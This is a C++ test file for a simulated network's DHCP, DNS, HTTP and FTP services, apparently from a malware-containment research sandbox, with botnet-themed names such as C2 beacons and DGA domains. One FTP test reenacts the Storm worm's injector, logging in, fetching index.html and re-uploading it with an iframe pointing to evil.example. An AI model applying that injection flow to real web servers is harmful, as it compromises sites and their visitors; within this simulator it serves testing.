// Tests for src/services: DHCP protocol/pool/client-server, DNS
// protocol/server/forwarder/stub resolver, HTTP parsing/server/client,
// and the FTP-lite server (including the STOR path the Storm iframe
// experiment depends on).
#include <gtest/gtest.h>

#include "net/stack.h"
#include "netsim/event_loop.h"
#include "netsim/vlan_switch.h"
#include "services/dhcp.h"
#include "services/dns.h"
#include "services/ftp.h"
#include "services/http.h"
#include "util/bytes.h"
#include "util/strings.h"

namespace gq::svc {
namespace {

using util::Endpoint;
using util::Ipv4Addr;
using util::Ipv4Net;

// --- DHCP ------------------------------------------------------------

TEST(DhcpMessage, RoundTrip) {
  DhcpMessage msg;
  msg.type = DhcpType::kOffer;
  msg.is_reply = true;
  msg.xid = 0xCAFEBABE;
  msg.client_mac = util::MacAddr::local(7);
  msg.yiaddr = Ipv4Addr(10, 0, 0, 5);
  msg.subnet_mask = Ipv4Addr(255, 255, 255, 0);
  msg.router = Ipv4Addr(10, 0, 0, 254);
  msg.dns = Ipv4Addr(10, 0, 0, 53);
  auto bytes = msg.encode();
  auto parsed = DhcpMessage::parse(bytes);
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->type, DhcpType::kOffer);
  EXPECT_TRUE(parsed->is_reply);
  EXPECT_EQ(parsed->xid, 0xCAFEBABEu);
  EXPECT_EQ(parsed->client_mac, msg.client_mac);
  EXPECT_EQ(parsed->yiaddr, msg.yiaddr);
  EXPECT_EQ(parsed->router, msg.router);
  EXPECT_EQ(parsed->dns, msg.dns);
}

TEST(DhcpMessage, RejectsGarbage) {
  std::vector<std::uint8_t> junk(300, 0x5A);
  EXPECT_FALSE(DhcpMessage::parse(junk));
  EXPECT_FALSE(DhcpMessage::parse(std::vector<std::uint8_t>{1, 2, 3}));
}

DhcpLeaseConfig test_lease_config() {
  return DhcpLeaseConfig{Ipv4Net(Ipv4Addr(10, 0, 0, 0), 24),
                         Ipv4Addr(10, 0, 0, 254), Ipv4Addr(10, 0, 0, 53),
                         Ipv4Addr(10, 0, 0, 254)};
}

TEST(DhcpPool, DiscoverOfferRequestAck) {
  DhcpPool pool(test_lease_config(), 10, 12);
  DhcpMessage discover;
  discover.type = DhcpType::kDiscover;
  discover.xid = 1;
  discover.client_mac = util::MacAddr::local(1);
  auto offer = pool.handle(discover);
  ASSERT_TRUE(offer);
  EXPECT_EQ(offer->type, DhcpType::kOffer);
  EXPECT_EQ(offer->yiaddr, Ipv4Addr(10, 0, 0, 10));

  DhcpMessage request = discover;
  request.type = DhcpType::kRequest;
  request.requested_ip = offer->yiaddr;
  auto ack = pool.handle(request);
  ASSERT_TRUE(ack);
  EXPECT_EQ(ack->type, DhcpType::kAck);
  EXPECT_EQ(ack->yiaddr, Ipv4Addr(10, 0, 0, 10));
  EXPECT_EQ(pool.leases_in_use(), 1u);
}

TEST(DhcpPool, StickyPerMac) {
  DhcpPool pool(test_lease_config(), 10, 20);
  DhcpMessage d;
  d.type = DhcpType::kDiscover;
  d.client_mac = util::MacAddr::local(1);
  auto first = pool.handle(d);
  auto second = pool.handle(d);
  ASSERT_TRUE(first && second);
  EXPECT_EQ(first->yiaddr, second->yiaddr);
}

TEST(DhcpPool, ExhaustionAndRelease) {
  DhcpPool pool(test_lease_config(), 10, 11);  // Two addresses.
  for (int i = 0; i < 2; ++i) {
    DhcpMessage d;
    d.type = DhcpType::kDiscover;
    d.client_mac = util::MacAddr::local(i);
    EXPECT_TRUE(pool.handle(d));
  }
  DhcpMessage d3;
  d3.type = DhcpType::kDiscover;
  d3.client_mac = util::MacAddr::local(99);
  EXPECT_FALSE(pool.handle(d3));  // Exhausted.
  pool.release(util::MacAddr::local(0));
  EXPECT_TRUE(pool.handle(d3));  // Freed address reused.
}

TEST(DhcpPool, NakForWrongAddress) {
  DhcpPool pool(test_lease_config(), 10, 20);
  DhcpMessage request;
  request.type = DhcpType::kRequest;
  request.client_mac = util::MacAddr::local(5);
  request.requested_ip = Ipv4Addr(10, 0, 0, 99);  // Never offered.
  auto reply = pool.handle(request);
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->type, DhcpType::kNak);
}

// Full client/server exchange over a simulated wire.
TEST(Dhcp, ClientAcquiresLease) {
  sim::EventLoop loop;
  sim::VlanSwitch sw(loop, "sw", 2);
  net::HostStack server(loop, "dhcpd", util::MacAddr::local(1), 1);
  net::HostStack client(loop, "pc", util::MacAddr::local(2), 2);
  sim::Port::connect(server.nic(), sw.port(0), util::microseconds(10));
  sim::Port::connect(client.nic(), sw.port(1), util::microseconds(10));
  sw.set_access(0, 3);
  sw.set_access(1, 3);
  server.configure({Ipv4Addr(10, 0, 0, 254), Ipv4Net(Ipv4Addr(10, 0, 0, 0), 24),
                    Ipv4Addr(10, 0, 0, 254), {}});
  DhcpServer dhcpd(server, DhcpPool(test_lease_config(), 100, 200));

  bool configured = false;
  DhcpClient dhcp_client(client, [&](const net::Ipv4Config& config) {
    configured = true;
    EXPECT_EQ(config.addr, Ipv4Addr(10, 0, 0, 100));
    EXPECT_EQ(config.gateway, Ipv4Addr(10, 0, 0, 254));
    EXPECT_EQ(config.dns, Ipv4Addr(10, 0, 0, 53));
  });
  dhcp_client.start();
  loop.run_for(util::seconds(10));
  EXPECT_TRUE(configured);
  EXPECT_TRUE(client.configured());
  EXPECT_TRUE(dhcp_client.bound());
}

// --- DNS -------------------------------------------------------------

TEST(DnsMessage, RoundTrip) {
  DnsMessage msg;
  msg.id = 0x1234;
  msg.qname = "cc.botnet.example";
  msg.is_response = true;
  msg.answers = {Ipv4Addr(1, 2, 3, 4), Ipv4Addr(5, 6, 7, 8)};
  auto bytes = msg.encode();
  auto parsed = DnsMessage::parse(bytes);
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->id, 0x1234);
  EXPECT_EQ(parsed->qname, "cc.botnet.example");
  EXPECT_TRUE(parsed->is_response);
  ASSERT_EQ(parsed->answers.size(), 2u);
  EXPECT_EQ(parsed->answers[1], Ipv4Addr(5, 6, 7, 8));
}

TEST(DnsMessage, NxdomainRcode) {
  DnsMessage msg;
  msg.qname = "nope.example";
  msg.is_response = true;
  msg.rcode = 3;
  auto parsed = DnsMessage::parse(msg.encode());
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->rcode, 3);
  EXPECT_TRUE(parsed->answers.empty());
}

TEST(DnsMessage, CaseInsensitiveName) {
  DnsMessage msg;
  msg.qname = "MiXeD.Example";
  // Our encoder writes as given; the parser lowercases.
  auto parsed = DnsMessage::parse(msg.encode());
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->qname, "mixed.example");
}

// Topology: client -> forwarder -> authoritative server.
struct DnsFixture : ::testing::Test {
  sim::EventLoop loop;
  sim::VlanSwitch sw{loop, "sw", 3};
  net::HostStack auth{loop, "auth", util::MacAddr::local(1), 1};
  net::HostStack fwd{loop, "fwd", util::MacAddr::local(2), 2};
  net::HostStack client{loop, "client", util::MacAddr::local(3), 3};

  void SetUp() override {
    for (std::size_t i = 0; i < 3; ++i) sw.set_access(i, 9);
    sim::Port::connect(auth.nic(), sw.port(0), util::microseconds(10));
    sim::Port::connect(fwd.nic(), sw.port(1), util::microseconds(10));
    sim::Port::connect(client.nic(), sw.port(2), util::microseconds(10));
    const Ipv4Net net(Ipv4Addr(10, 1, 0, 0), 24);
    auth.configure({Ipv4Addr(10, 1, 0, 1), net, {}, {}});
    fwd.configure({Ipv4Addr(10, 1, 0, 2), net, {}, {}});
    client.configure({Ipv4Addr(10, 1, 0, 3), net, {}, Ipv4Addr(10, 1, 0, 2)});
  }
};

TEST_F(DnsFixture, ResolveThroughForwarder) {
  DnsServer server(auth);
  server.add_record("cc.evil.example", Ipv4Addr(6, 6, 6, 6));
  DnsForwarder forwarder(fwd, {Ipv4Addr(10, 1, 0, 1), 53});
  StubResolver resolver(client);

  std::optional<Ipv4Addr> result;
  bool called = false;
  resolver.resolve("CC.Evil.Example", [&](std::optional<Ipv4Addr> addr) {
    called = true;
    result = addr;
  });
  loop.run_for(util::seconds(5));
  ASSERT_TRUE(called);
  ASSERT_TRUE(result);
  EXPECT_EQ(*result, Ipv4Addr(6, 6, 6, 6));
  EXPECT_EQ(forwarder.forwarded(), 1u);
  EXPECT_EQ(server.queries_served(), 1u);
}

TEST_F(DnsFixture, NxdomainPropagates) {
  DnsServer server(auth);
  DnsForwarder forwarder(fwd, {Ipv4Addr(10, 1, 0, 1), 53});
  StubResolver resolver(client);
  bool called = false;
  std::optional<Ipv4Addr> result = Ipv4Addr(9, 9, 9, 9);
  resolver.resolve("dga-a8f3k2.example", [&](std::optional<Ipv4Addr> addr) {
    called = true;
    result = addr;
  });
  loop.run_for(util::seconds(5));
  EXPECT_TRUE(called);
  EXPECT_FALSE(result);
}

TEST_F(DnsFixture, ForwarderCaches) {
  DnsServer server(auth);
  server.add_record("x.example", Ipv4Addr(1, 1, 1, 1));
  DnsForwarder forwarder(fwd, {Ipv4Addr(10, 1, 0, 1), 53});
  StubResolver resolver(client);
  int answers = 0;
  // Sequential queries: each launched after the previous one resolves so
  // the second and third hit the forwarder's cache.
  std::function<void(int)> ask = [&](int remaining) {
    resolver.resolve("x.example", [&, remaining](std::optional<Ipv4Addr> a) {
      if (a) ++answers;
      if (remaining > 1) ask(remaining - 1);
    });
  };
  ask(3);
  loop.run_for(util::seconds(5));
  EXPECT_EQ(answers, 3);
  EXPECT_EQ(server.queries_served(), 1u);  // Served once, cached after.
  EXPECT_EQ(forwarder.cache_hits(), 2u);
}

TEST_F(DnsFixture, GlobRecords) {
  DnsServer server(auth);
  server.add_record("*.fastflux.example", Ipv4Addr(2, 2, 2, 2));
  DnsForwarder forwarder(fwd, {Ipv4Addr(10, 1, 0, 1), 53});
  StubResolver resolver(client);
  std::optional<Ipv4Addr> result;
  resolver.resolve("node1234.fastflux.example",
                   [&](std::optional<Ipv4Addr> addr) { result = addr; });
  loop.run_for(util::seconds(5));
  ASSERT_TRUE(result);
  EXPECT_EQ(*result, Ipv4Addr(2, 2, 2, 2));
}

TEST_F(DnsFixture, ResolverTimesOutWithoutServer) {
  // No DNS server running at all.
  StubResolver resolver(client);
  bool called = false;
  std::optional<Ipv4Addr> result = Ipv4Addr(1, 1, 1, 1);
  resolver.resolve("anything.example", [&](std::optional<Ipv4Addr> addr) {
    called = true;
    result = addr;
  });
  loop.run_for(util::seconds(30));
  EXPECT_TRUE(called);
  EXPECT_FALSE(result);
}

// --- HTTP ------------------------------------------------------------

TEST(HttpMessage, RequestEncodeParse) {
  HttpRequest req;
  req.method = "GET";
  req.path = "/bot.exe";
  req.set_header("Host", "dl.evil.example");
  HttpRequestParser parser;
  auto encoded = req.encode();
  parser.feed(util::to_bytes(encoded));
  auto parsed = parser.take();
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->method, "GET");
  EXPECT_EQ(parsed->path, "/bot.exe");
  EXPECT_EQ(parsed->header("host"), "dl.evil.example");
  EXPECT_FALSE(parser.take());  // Nothing left.
}

TEST(HttpMessage, ResponseWithBody) {
  auto rsp = HttpResponse::make(404, "NOT FOUND", "gone");
  HttpResponseParser parser;
  parser.feed(util::to_bytes(rsp.encode()));
  auto parsed = parser.take();
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->status, 404);
  EXPECT_EQ(parsed->reason, "NOT FOUND");
  EXPECT_EQ(parsed->body, "gone");
}

TEST(HttpMessage, IncrementalFeed) {
  HttpRequest req;
  req.method = "POST";
  req.path = "/c2";
  req.body = "beacon-data";
  req.set_header("Content-Length", "11");
  const std::string wire = req.encode();
  HttpRequestParser parser;
  // Byte-at-a-time: parser must not complete early.
  for (std::size_t i = 0; i < wire.size(); ++i) {
    parser.feed(util::to_bytes(wire.substr(i, 1)));
    if (i + 1 < wire.size()) {
      EXPECT_FALSE(parser.take());
    }
  }
  auto parsed = parser.take();
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->body, "beacon-data");
}

TEST(HttpMessage, PipelinedRequests) {
  HttpRequest a, b;
  a.path = "/one";
  b.path = "/two";
  HttpRequestParser parser;
  parser.feed(util::to_bytes(a.encode() + b.encode()));
  auto first = parser.take();
  auto second = parser.take();
  ASSERT_TRUE(first && second);
  EXPECT_EQ(first->path, "/one");
  EXPECT_EQ(second->path, "/two");
}

TEST(HttpMessage, MalformedStartLineFails) {
  HttpRequestParser parser;
  parser.feed(util::to_bytes("NOT-HTTP\r\n\r\n"));
  EXPECT_FALSE(parser.take());
  EXPECT_TRUE(parser.failed());
}

TEST(HttpMessage, StatusMustBeThreeDigits) {
  // 4294967496 is 2^32 + 200: narrowed to int it would read as 200.
  for (const char* line :
       {"HTTP/1.1 4294967496 Evil", "HTTP/1.1 1000 Big", "HTTP/1.1 99 Low",
        "HTTP/1.1 -20 Neg", "HTTP/1.1 0200 Padded", "HTTP/1.1 20 Short"}) {
    HttpResponseParser parser;
    parser.feed(util::to_bytes(std::string(line) + "\r\n\r\n"));
    EXPECT_FALSE(parser.take()) << line;
    EXPECT_TRUE(parser.failed()) << line;
  }
  for (int status : {100, 200, 999}) {
    HttpResponseParser parser;
    parser.feed(util::to_bytes("HTTP/1.1 " + std::to_string(status) +
                               " X\r\n\r\n"));
    const auto parsed = parser.take();
    ASSERT_TRUE(parsed) << status;
    EXPECT_EQ(parsed->status, status);
  }
}

struct HttpFixture : ::testing::Test {
  sim::EventLoop loop;
  sim::VlanSwitch sw{loop, "sw", 2};
  net::HostStack server{loop, "www", util::MacAddr::local(1), 1};
  net::HostStack client{loop, "c", util::MacAddr::local(2), 2};

  void SetUp() override {
    sw.set_access(0, 4);
    sw.set_access(1, 4);
    sim::Port::connect(server.nic(), sw.port(0), util::microseconds(10));
    sim::Port::connect(client.nic(), sw.port(1), util::microseconds(10));
    const Ipv4Net net(Ipv4Addr(10, 2, 0, 0), 24);
    server.configure({Ipv4Addr(10, 2, 0, 1), net, {}, {}});
    client.configure({Ipv4Addr(10, 2, 0, 2), net, {}, {}});
  }
};

TEST_F(HttpFixture, ServerAndClient) {
  HttpServer httpd(server, 80, [](const HttpRequest& req, util::Endpoint) {
    if (req.path == "/hello")
      return HttpResponse::make(200, "OK", "world");
    return HttpResponse::make(404, "NOT FOUND", "");
  });
  std::optional<HttpResponse> got;
  HttpRequest req;
  req.path = "/hello";
  HttpClient::fetch(client, {Ipv4Addr(10, 2, 0, 1), 80}, req,
                    [&](std::optional<HttpResponse> rsp) { got = rsp; });
  loop.run_for(util::seconds(5));
  ASSERT_TRUE(got);
  EXPECT_EQ(got->status, 200);
  EXPECT_EQ(got->body, "world");
  EXPECT_EQ(httpd.requests_served(), 1u);
}

TEST_F(HttpFixture, NotFoundAndConnectionFailure) {
  HttpServer httpd(server, 80, [](const HttpRequest&, util::Endpoint) {
    return HttpResponse::make(404, "NOT FOUND", "");
  });
  std::optional<HttpResponse> got;
  bool called = false;
  HttpRequest req;
  HttpClient::fetch(client, {Ipv4Addr(10, 2, 0, 1), 80}, req,
                    [&](std::optional<HttpResponse> rsp) {
                      called = true;
                      got = rsp;
                    });
  loop.run_for(util::seconds(5));
  ASSERT_TRUE(called);
  ASSERT_TRUE(got);
  EXPECT_EQ(got->status, 404);

  // No server on this port: callback must fire with nullopt.
  bool failed_called = false;
  std::optional<HttpResponse> failed_rsp;
  HttpClient::fetch(client, {Ipv4Addr(10, 2, 0, 1), 8080}, req,
                    [&](std::optional<HttpResponse> rsp) {
                      failed_called = true;
                      failed_rsp = rsp;
                    });
  loop.run_for(util::seconds(10));
  EXPECT_TRUE(failed_called);
  EXPECT_FALSE(failed_rsp);
}

TEST_F(HttpFixture, LargeBodyTransfer) {
  const std::string blob(300'000, 'B');
  HttpServer httpd(server, 80, [&](const HttpRequest&, util::Endpoint) {
    return HttpResponse::make(200, "OK", blob);
  });
  std::optional<HttpResponse> got;
  HttpClient::fetch(client, {Ipv4Addr(10, 2, 0, 1), 80}, HttpRequest{},
                    [&](std::optional<HttpResponse> rsp) { got = rsp; });
  loop.run_for(util::seconds(30));
  ASSERT_TRUE(got);
  EXPECT_EQ(got->body.size(), blob.size());
}

// --- FTP -------------------------------------------------------------

struct FtpFixture : HttpFixture {};

// Drives the FTP control/data protocol as the Storm iframe injector did:
// login, fetch a page, re-upload it modified.
TEST_F(FtpFixture, RetrieveModifyStore) {
  FtpServer ftpd(server, 21, "webmaster", "hunter2");
  ftpd.files()["index.html"] = "<html><body>hi</body></html>";

  auto control = client.connect({Ipv4Addr(10, 2, 0, 1), 21});
  auto state = std::make_shared<int>(0);
  auto page = std::make_shared<std::string>();
  auto buffer = std::make_shared<std::string>();
  auto data_conn = std::make_shared<std::shared_ptr<net::TcpConnection>>();

  control->on_data = [&, control, state, page, buffer,
                      data_conn](std::span<const std::uint8_t> d) {
    buffer->append(reinterpret_cast<const char*>(d.data()), d.size());
    std::size_t pos;
    while ((pos = buffer->find("\r\n")) != std::string::npos) {
      std::string line = buffer->substr(0, pos);
      buffer->erase(0, pos + 2);
      const std::string code = line.substr(0, 3);
      if (code == "220") {
        control->send("USER webmaster\r\n");
      } else if (code == "331") {
        control->send("PASS hunter2\r\n");
      } else if (code == "230") {
        control->send("PASV\r\n");
      } else if (code == "227") {
        // Parse "(h1,h2,h3,h4,p1,p2)".
        auto open = line.find('(');
        auto parts = util::split(line.substr(open + 1,
                                             line.find(')') - open - 1), ',');
        const std::uint16_t port = static_cast<std::uint16_t>(
            (*util::parse_int(parts[4]) << 8) | *util::parse_int(parts[5]));
        *data_conn = client.connect({Ipv4Addr(10, 2, 0, 1), port});
        if (*state == 0) {
          (*data_conn)->on_data = [page](std::span<const std::uint8_t> d) {
            page->append(reinterpret_cast<const char*>(d.data()), d.size());
          };
          (*data_conn)->on_connected = [control] {
            control->send("RETR index.html\r\n");
          };
        } else {
          (*data_conn)->on_connected = [control] {
            control->send("STOR index.html\r\n");
          };
        }
      } else if (code == "226" && *state == 0) {
        *state = 1;
        control->send("PASV\r\n");  // Second transfer: upload.
      } else if (code == "150" && *state == 1) {
        const std::string modified =
            *page + "<iframe src=\"http://evil.example/\"></iframe>";
        (*data_conn)->send(modified);
        (*data_conn)->close();
        *state = 2;
      } else if (code == "226" && *state == 2) {
        control->send("QUIT\r\n");
      }
    }
  };
  loop.run_for(util::seconds(30));
  EXPECT_EQ(ftpd.logins(), 1u);
  EXPECT_EQ(ftpd.retrievals(), 1u);
  EXPECT_EQ(ftpd.stores(), 1u);
  EXPECT_NE(ftpd.files()["index.html"].find("<iframe"), std::string::npos);
}

TEST_F(FtpFixture, WrongPasswordRejected) {
  FtpServer ftpd(server, 21, "admin", "secret");
  auto control = client.connect({Ipv4Addr(10, 2, 0, 1), 21});
  auto got530 = std::make_shared<bool>(false);
  auto buffer = std::make_shared<std::string>();
  control->on_data = [control, got530,
                      buffer](std::span<const std::uint8_t> d) {
    buffer->append(reinterpret_cast<const char*>(d.data()), d.size());
    if (buffer->find("220") != std::string::npos &&
        buffer->find("USER-SENT") == std::string::npos) {
      buffer->append("USER-SENT");
      control->send("USER admin\r\nPASS wrong\r\n");
    }
    if (buffer->find("530") != std::string::npos) *got530 = true;
  };
  loop.run_for(util::seconds(10));
  EXPECT_TRUE(*got530);
  EXPECT_EQ(ftpd.logins(), 0u);
}

}  // namespace
}  // namespace gq::svc
